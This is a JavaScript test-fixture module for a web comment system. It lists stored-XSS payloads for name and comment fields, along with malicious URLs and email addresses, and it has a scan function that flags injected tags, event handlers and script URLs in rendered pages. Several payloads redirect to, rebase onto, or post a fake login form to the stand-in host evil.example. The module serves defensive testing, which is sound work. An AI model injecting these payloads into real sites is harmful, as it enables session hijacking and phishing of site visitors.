// Stored-XSS payloads for comment fields and a scan of a page for markup
// that a payload could have injected.
import { tokenize } from './forms.mjs';

// Text a reader might type into the name or comment box. Every one must be
// accepted and shown back as exactly this text.
export const TEXT_PAYLOADS = [
  '<script>window.__pwned=1;document.title="pwned"</script>',
  '<img src=x onerror="window.__pwned=2;alert(2)">',
  '<svg onload="window.__pwned=3;alert(3)">',
  '<svg><script>window.__pwned=4</script></svg>',
  '"><script>window.__pwned=5</script>',
  "'><img src=x onerror=\"window.__pwned=6\">",
  '" onmouseover="window.__pwned=7" x="',
  "' autofocus onfocus='window.__pwned=8' x='",
  '<!--',
  '--><script>window.__pwned=9</script>',
  '</textarea><script>window.__pwned=10</script>',
  '</title><script>document.title="pwned"</script>',
  '&lt;script&gt;alert(11)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(12)&#62; &#x3C;b&#x3E;',
  '<a href="javascript:window.__pwned=13">click me</a>',
  '<iframe srcdoc="<script>parent.__pwned=14</script>"></iframe>',
  '<body onload="window.__pwned=15">',
  '<style>body{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=16">',
  '<<script>script>window.__pwned=17<</script>/script>',
  '<ScRiPt>window.__pwned=18</sCrIpT>',
  '%3Cscript%3Ealert(19)%3C%2Fscript%3E',
  '{{site.title}} {{{article.body}}} {{>head}}',
  '<!--byline:splice-->',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Log in</button></form>',
  '<div style="background:url(javascript:alert(20))">styled</div>',
  'https://example.com/"onmouseover="window.__pwned=21"x="',
  'https://example.com/<script>window.__pwned=22</script>',
  'Read this \u202egnp.exe\u202c please',
  '${alert(23)} `backtick` \\" \\u003cscript\\u003e',
  'Zalgo t\u0337e\u0336x\u0335t and emoji \u{1F600} and \u00a0nbsp',
];

// A word much longer than any screen is wide.
export const LONG_WORD = 'Pneumono' + 'ultramicroscopicsilicovolcanoconiosis'.repeat(130);

// Website addresses that must be refused (never become a link).
export const BAD_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:window.__pwned=30',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
];

// Website addresses with markup in them: refused, or shown only escaped.
export const ODD_URLS = [
  'https://example.com/"><script>window.__pwned=31</script>',
  "https://example.com/' onmouseover='window.__pwned=32'",
  'https://example.com/?q=<img src=x onerror=alert(33)>',
];

// Email addresses that are valid but carry markup-like characters.
export const ODD_EMAILS = [
  "o'brien+xss@example.com",
  '"<script>alert(1)</script>"@example.com',
];

const DANGEROUS = ['script', 'iframe', 'object', 'embed', 'base', 'style', 'svg', 'math', 'frame', 'frameset', 'applet', 'body', 'html', 'head', 'title', 'meta', 'link', 'form', 'textarea', 'button', 'input', 'select', 'img'];
const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'srcdoc', 'data', 'xlink:href', 'poster', 'background'];

// What a scan of a page finds: counts of element names that matter, event
// handler attributes, script URLs, HTML comments, and any attribute with a
// name no theme would use.
export function scan(html) {
  const tags = {};
  const handlers = [];
  const scriptUrls = [];
  const styleAttrs = [];
  let comments = 0;
  for (const t of tokenize(html)) {
    if (t.type === 'comment') comments++;
    if (t.type !== 'tag') continue;
    const avatar = t.name === 'img' && /^\/avatar\/[^/]+\.svg$/.test(t.attrs.get('src') || '');
    if (DANGEROUS.includes(t.name) && !avatar) tags[t.name] = (tags[t.name] || 0) + 1;
    for (const [name, value] of t.attrList) {
      if (/^on/.test(name)) handlers.push(`<${t.name} ${name}=${value}>`);
      if (name === 'style') styleAttrs.push(`<${t.name} style=${value}>`);
      if (name === 'srcdoc') handlers.push(`<${t.name} ${name}>`);
      if (URL_ATTRS.includes(name)) {
        const v = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (/^(javascript|vbscript|data):/.test(v) && !(t.name === 'img' && /^data:image\//.test(v))) scriptUrls.push(`<${t.name} ${name}=${value}>`);
      }
    }
  }
  return { tags, handlers, scriptUrls, styleAttrs, comments };
}
